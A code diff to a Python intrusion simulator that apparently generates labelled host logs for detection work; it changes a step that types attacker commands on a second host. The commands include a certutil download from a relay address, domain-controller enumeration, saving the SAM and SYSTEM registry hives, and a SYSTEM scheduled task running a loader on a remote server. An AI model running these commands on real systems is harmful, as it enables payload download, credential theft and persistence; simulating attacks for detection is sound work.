@@ -51,7 +51,7 @@ def intrude(journals: dict[str, Journal], *, clears: bool) -> None:
     _look_around(first)
     _make_way(first)
     second = _move_on(first, journals)
-    _take_secrets(second)
+    _take_secrets(second, journals)
     _take_the_directory(journals)
     _work_on_the_controller(journals, second)
     _collect(journals, second)
@@ -136,11 +136,11 @@ def _move_on(desk: Desk, journals: dict[str, Journal]) -> Desk:
     return _sit_down(app, after(when, 3), desk.journal.host.address, 2 * 24 * 60)
 
 
-def _take_secrets(desk: Desk) -> None:
+def _take_secrets(desk: Desk, journals: dict[str, Journal]) -> None:
     """On the second host: fetch a tool, keep a task, read the secrets of the host."""
     typed = (
         ("22:41", f"certutil.exe -urlcache -split -f http://{RELAY_ADDRESS}/a.txt {_PUBLIC}\\a.txt", "C2-11"),
-        ("22:44", 'net.exe group "domain controllers" /domain', "DI-03"),
+        ("22:44", 'net.exe group "domain controllers" /domain', "DI-03", "?DI-09"),
         ("22:52", "reg.exe save hklm\\sam C:\\Windows\\Temp\\ss.dat", "CR-10"),
         ("22:53", "reg.exe save hklm\\system C:\\Windows\\Temp\\sy.dat", "CR-10"),
         (
@@ -149,13 +149,13 @@ def _take_secrets(desk: Desk) -> None:
             "CR-11",
         ),
     )
-    for clock, command, sign in typed:
-        desk.type(at(FIRST_EVENING, clock), command, sign)
-    when = at(FIRST_EVENING, "23:10")
+    for clock, command, *signs in typed:
+        desk.type(at(FIRST_EVENING, clock), command, *signs)
+    server, when = journals["FS02"], at(FIRST_EVENING, "23:10")
     action = "C:\\ProgramData\\sl\\loader.exe"
-    desk.type(when, f"schtasks.exe /create /tn \\sl /tr {action} /sc onstart /ru system", "PE-04")
-    with desk.journal.showing("?PE-04"):
-        services.task_changed(desk.journal, after(when, 0.3), 106, "\\sl", KUDO.full)
+    desk.type(when, f"schtasks.exe /create /s FS02 /tn \\sl /tr {action} /sc onstart /ru system", "PE-04")
+    with server.showing("?PE-04"):
+        services.task_changed(server, after(when, 0.6), 106, "\\sl", KUDO.full)
 
 
 @dataclass(frozen=True)
